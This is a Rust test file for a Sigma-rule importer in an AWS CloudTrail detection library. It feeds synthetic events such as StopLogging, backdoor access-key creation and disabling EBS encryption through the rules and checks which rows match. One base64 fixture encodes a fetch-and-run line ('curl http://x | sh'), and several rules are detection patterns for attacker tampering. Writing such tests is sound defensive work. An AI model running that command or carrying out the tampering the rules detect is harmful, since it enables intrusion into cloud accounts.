//! Sigma import: real SigmaHQ CloudTrail rules (as published) and the supported constructs.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use common::{call, store_of, with};
use serde_json::{json, Value};
use trailscope_detect::sigma::{parse_sigma, SigmaError};
use trailscope_detect::{RuleSet, Severity, Tactic};

fn rule_file(name: &str) -> String {
    std::fs::read_to_string(format!("{}/tests/sigma/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

/// Rows of `records` the Sigma rule in `file` matches.
fn matched(file: &str, records: &[Value]) -> Vec<u32> {
    let rule = parse_sigma(&rule_file(file)).unwrap();
    let set = RuleSet::new(vec![rule]).unwrap();
    set.evaluate(&store_of(records)).remove(0).rows
}

#[test]
fn cloudtrail_important_change() {
    let rule = parse_sigma(&rule_file("cloudtrail_important_change.yml")).unwrap();
    assert_eq!(rule.id, "4db60cc0-36fb-42b7-9b58-a5b53019fb74");
    assert_eq!(rule.severity, Severity::Medium);
    assert_eq!(rule.tactics, vec![Tactic::DefenseEvasion]);
    assert_eq!(rule.techniques, vec!["T1562.001".to_string()]);
    let rows = matched(
        "cloudtrail_important_change.yml",
        &[
            call("cloudtrail.amazonaws.com", "StopLogging"),
            call("cloudtrail.amazonaws.com", "updatetrail"), // Sigma matching ignores case
            call("cloudtrail.amazonaws.com", "StartLogging"),
            call("s3.amazonaws.com", "DeleteTrail"),
        ],
    );
    assert_eq!(rows, vec![0, 1]);
}

#[test]
fn root_credentials_null_means_absent() {
    let root = with(
        call("iam.amazonaws.com", "CreateUser"),
        "userIdentity",
        json!({"type": "Root", "arn": "arn:aws:iam::123456789012:root"}),
    );
    let rows = matched(
        "root_credentials.yml",
        &[
            root.clone(),
            with(
                root.clone(),
                "userIdentity.invokedBy",
                json!("support.amazonaws.com"),
            ),
            with(root.clone(), "eventType", json!("AwsServiceEvent")),
            call("iam.amazonaws.com", "CreateUser"),
        ],
    );
    assert_eq!(rows, vec![0]);
}

#[test]
fn ec2_disable_ebs_encryption() {
    let rule = parse_sigma(&rule_file("ec2_disable_ebs_encryption.yml")).unwrap();
    assert_eq!(rule.tactics, vec![Tactic::Impact]);
    assert_eq!(
        rule.techniques,
        vec!["T1486".to_string(), "T1565".to_string()]
    );
    let rows = matched(
        "ec2_disable_ebs_encryption.yml",
        &[
            call("ec2.amazonaws.com", "DisableEbsEncryptionByDefault"),
            call("ec2.amazonaws.com", "EnableEbsEncryptionByDefault"),
        ],
    );
    assert_eq!(rows, vec![0]);
}

#[test]
fn iam_backdoor_users_keys_filter() {
    let key = call("iam.amazonaws.com", "CreateAccessKey");
    let rows = matched(
        "iam_backdoor_users_keys.yml",
        &[
            key.clone(),
            with(
                key.clone(),
                "userIdentity.arn",
                json!("arn:aws:iam::1:user/responseElements.accessKey.userName"),
            ),
            call("iam.amazonaws.com", "ListAccessKeys"),
        ],
    );
    assert_eq!(rows, vec![0]);
}

#[test]
fn modifiers_lists_wildcards_and_of_patterns() {
    let agent = |e: Value, ua: &str| with(e, "userAgent", json!(ua));
    let region = |e: Value, r: &str| with(e, "awsRegion", json!(r));
    let rows = matched(
        "combined_features.yml",
        &[
            call("ec2.amazonaws.com", "DeleteVpc"), // startswith + endswith
            agent(
                call("s3.amazonaws.com", "GetObject"),
                "Boto3/1.34 Python/3.11",
            ), // contains|all
            call("s3.amazonaws.com", "PutBucketAcl"), // re
            call("ec2.amazonaws.com", "deletevpc"), // case-insensitive startswith
            with(
                call("ec2.amazonaws.com", "DeleteVpc"),
                "userIdentity",
                json!({"type": "AWSService"}),
            ),
            with(
                call("ec2.amazonaws.com", "DeleteVpc"),
                "userIdentity.invokedBy",
                json!("ec2.amazonaws.com"),
            ),
            region(call("ec2.amazonaws.com", "DeleteVpc"), "eu-west-1"),
            agent(
                call("s3.amazonaws.com", "GetObject"),
                "python-requests/2.31",
            ),
            call("s3.amazonaws.com", "putbucketacl"), // re is case-sensitive
            call("ec2.amazonaws.com", "DescribeVpcs"),
        ],
    );
    assert_eq!(rows, vec![0, 1, 2, 3]);
}

fn sigma_with(detection: &str) -> String {
    format!("title: T\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n{detection}")
}

#[test]
fn all_of_them_and_or() {
    let rule = parse_sigma(&sigma_with(
        "  a:\n    eventName: X\n  b:\n    awsRegion: us-east-1\n  condition: all of them\n",
    ))
    .unwrap();
    let set = RuleSet::new(vec![rule]).unwrap();
    let store = store_of(&[
        call("s", "X"),
        with(call("s", "X"), "awsRegion", json!("eu-west-1")),
        call("s", "Y"),
    ]);
    assert_eq!(set.evaluate(&store)[0].rows, vec![0]);
    let rule = parse_sigma(&sigma_with(
        "  a:\n    eventName: X\n  b:\n    eventName: Y\n  condition: a or b\n",
    ))
    .unwrap();
    assert_eq!(rule.id, "sigma-t");
    let set = RuleSet::new(vec![rule]).unwrap();
    assert_eq!(set.evaluate(&store)[0].rows, vec![0, 1, 2]);
}

#[test]
fn unsupported_constructs_are_named() {
    let err = |d: &str| parse_sigma(&sigma_with(d)).unwrap_err();
    assert_eq!(
        err("  s:\n    userAgent|windash|contains: ' -enc '\n  condition: s\n"),
        SigmaError::Modifier("windash".into())
    );
    assert!(
        err("  s:\n    userAgent|windash|contains: x\n  condition: s\n")
            .to_string()
            .contains("|windash")
    );
    assert_eq!(
        err("  s:\n    userAgent|utf16le|base64: x\n  condition: s\n"),
        SigmaError::Modifier("utf16le".into())
    );
    assert!(matches!(
        err("  s:\n    sourceIPAddress|cidr: 10.0.0/8\n  condition: s\n"),
        SigmaError::Syntax(m) if m.contains("10.0.0/8")
    ));
    assert!(matches!(
        err("  s:\n    requestParameters.userData|base64: 'a*'\n  condition: s\n"),
        SigmaError::Unsupported(m) if m.contains("wildcards")
    ));
    assert_eq!(
        err("  s:\n    eventName|frobnicate: x\n  condition: s\n"),
        SigmaError::UnknownModifier("frobnicate".into())
    );
    assert!(
        matches!(err("  s:\n    eventName: ConsoleLogin\n  condition: s | count() by sourceIPAddress > 10\n"), SigmaError::Unsupported(m) if m.contains("count"))
    );
    assert!(
        matches!(err("  s:\n    eventName: A\n  t:\n    eventName: B\n  condition: s near t\n"), SigmaError::Unsupported(m) if m.contains("near"))
    );
    assert!(
        matches!(err("  s:\n    - evil\n    - bad\n  condition: s\n"), SigmaError::Unsupported(m) if m.contains("keyword"))
    );
    assert_eq!(
        err("  s:\n    eventName: A\n  condition: s and t\n"),
        SigmaError::UnknownIdentifier("t".into())
    );
    let windows = "title: W\nlogsource:\n  product: windows\n  service: security\ndetection:\n  s:\n    EventID: 4624\n  condition: s\n";
    assert_eq!(
        parse_sigma(windows).unwrap_err(),
        SigmaError::Logsource {
            product: "windows".into(),
            service: "security".into()
        }
    );
    assert!(parse_sigma(windows)
        .unwrap_err()
        .to_string()
        .contains("windows"));
}

/// Rows of `records` matched by a Sigma rule whose detection is `detection`.
fn rows_of(detection: &str, records: &[Value]) -> Vec<u32> {
    let rule = parse_sigma(&sigma_with(detection)).unwrap();
    let set = RuleSet::new(vec![rule]).unwrap();
    set.evaluate(&store_of(records)).remove(0).rows
}

#[test]
fn fieldref_compares_two_fields_of_one_event() {
    // A user acting on itself (e.g. creating its own access key).
    let own = with(
        call("iam.amazonaws.com", "CreateAccessKey"),
        "requestParameters.userName",
        json!("alice"),
    );
    let other = with(own.clone(), "requestParameters.userName", json!("bob"));
    let none = call("iam.amazonaws.com", "CreateAccessKey");
    let detection =
        "  s:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: s\n";
    assert_eq!(
        rows_of(detection, &[own.clone(), other.clone(), none.clone()]),
        vec![0]
    );
    let negated = "  s:\n    eventName: CreateAccessKey\n  f:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: s and not f\n";
    assert_eq!(rows_of(negated, &[own, other, none]), vec![1, 2]);
}

#[test]
fn cidr_matches_addresses_in_the_range() {
    let at = |ip: &str| {
        with(
            call("s3.amazonaws.com", "GetObject"),
            "sourceIPAddress",
            json!(ip),
        )
    };
    let records = [
        at("10.1.2.3"),
        at("192.168.0.1"),
        at("2001:db8::7"),
        at("s3.amazonaws.com"),
        at("10.0.0.1"),
    ];
    let detection = "  s:\n    sourceIPAddress|cidr:\n      - 10.0.0.0/8\n      - '2001:db8::/32'\n  condition: s\n";
    assert_eq!(rows_of(detection, &records), vec![0, 2, 4]);
    let not_private = "  s:\n    sourceIPAddress|cidr: 10.0.0.0/8\n  condition: not s\n";
    assert_eq!(rows_of(not_private, &records), vec![1, 2, 3]);
}

#[test]
fn exists_null_and_empty_are_three_different_things() {
    let base = call("ec2.amazonaws.com", "RunInstances");
    let records = [
        with(base.clone(), "errorMessage", json!("")),
        with(base.clone(), "errorMessage", Value::Null),
        base.clone(),
        with(base.clone(), "errorMessage", json!("boom")),
    ];
    let rows = |value: &str| rows_of(&format!("  s:\n    {value}\n  condition: s\n"), &records);
    assert_eq!(
        rows("errorMessage: ''"),
        vec![0],
        "'' is only the empty string"
    );
    assert_eq!(
        rows("errorMessage: null"),
        vec![1, 2],
        "null is missing or null"
    );
    assert_eq!(rows("errorMessage|exists: true"), vec![0, 3]);
    assert_eq!(rows("errorMessage|exists: false"), vec![1, 2]);
    assert_eq!(
        rows("errorMessage|contains: '*'"),
        vec![0, 3],
        "any string, even empty"
    );
    assert_eq!(rows("errorMessage: '*'"), vec![0, 3]);
    // A column field (userAgent is a store column): the empty string is still told apart.
    let agents = [
        with(base.clone(), "userAgent", json!("")),
        with(base.clone(), "userAgent", Value::Null),
        with(base.clone(), "userAgent", json!("curl/8")),
    ];
    let rows = |value: &str| rows_of(&format!("  s:\n    {value}\n  condition: s\n"), &agents);
    assert_eq!(rows("userAgent: ''"), vec![0]);
    assert_eq!(rows("userAgent: null"), vec![1]);
    assert_eq!(rows("userAgent|contains: '*'"), vec![0, 2]);
}

#[test]
fn plain_values_match_object_and_array_fields_by_their_json_text() {
    let failed = with(
        call("signin.amazonaws.com", "ConsoleLogin"),
        "responseElements",
        json!({"ConsoleLogin": "Failure"}),
    );
    let ok = with(
        failed.clone(),
        "responseElements",
        json!({"ConsoleLogin": "Success"}),
    );
    let tagged = with(
        call("ec2.amazonaws.com", "CreateTags"),
        "requestParameters.tagSet",
        json!([{"key": "Owner"}, {"key": "Ransom"}]),
    );
    let records = [failed, ok, tagged];
    assert_eq!(
        rows_of(
            "  s:\n    responseElements|contains: 'Failure'\n  condition: s\n",
            &records
        ),
        vec![0]
    );
    assert_eq!(
        rows_of(
            "  s:\n    requestParameters.tagSet|contains: ransom\n  condition: s\n",
            &records
        ),
        vec![2]
    );
    assert_eq!(
        rows_of(
            "  s:\n    responseElements: '{\"ConsoleLogin\":\"Success\"}'\n  condition: s\n",
            &records
        ),
        vec![1]
    );
}

#[test]
fn base64_and_base64offset_find_encoded_values() {
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let user_data = |text: &str| {
        with(
            call("ec2.amazonaws.com", "RunInstances"),
            "requestParameters.userData",
            json!(text),
        )
    };
    // The secret at every offset of a longer encoded script.
    let records = [
        user_data(&b64("#!/bin/sh\ncurl http://x | sh")),
        user_data(&b64("x#!/bin/sh curl http://x")),
        user_data(&b64("xx#!/bin/sh curl")),
        user_data(&b64("#!/bin/bash echo hello")),
        user_data("curl plain"),
    ];
    let offset =
        "  s:\n    requestParameters.userData|base64offset|contains: '#!/bin/sh'\n  condition: s\n";
    assert_eq!(rows_of(offset, &records), vec![0, 1, 2]);
    let exact = format!(
        "  s:\n    requestParameters.userData|base64: '{}'\n  condition: s\n",
        "#!/bin/bash echo hello"
    );
    assert_eq!(rows_of(&exact, &records), vec![3]);
}

#[test]
fn deeply_nested_conditions_are_an_error() {
    let deep = format!(
        "  s:\n    eventName: A\n  condition: {}s{}\n",
        "(".repeat(5000),
        ")".repeat(5000)
    );
    assert!(
        matches!(parse_sigma(&sigma_with(&deep)), Err(SigmaError::Condition(m)) if m.contains("nested"))
    );
    let nots = format!(
        "  s:\n    eventName: A\n  condition: {}s\n",
        "not ".repeat(5000)
    );
    assert!(matches!(
        parse_sigma(&sigma_with(&nots)),
        Err(SigmaError::Condition(_))
    ));
}
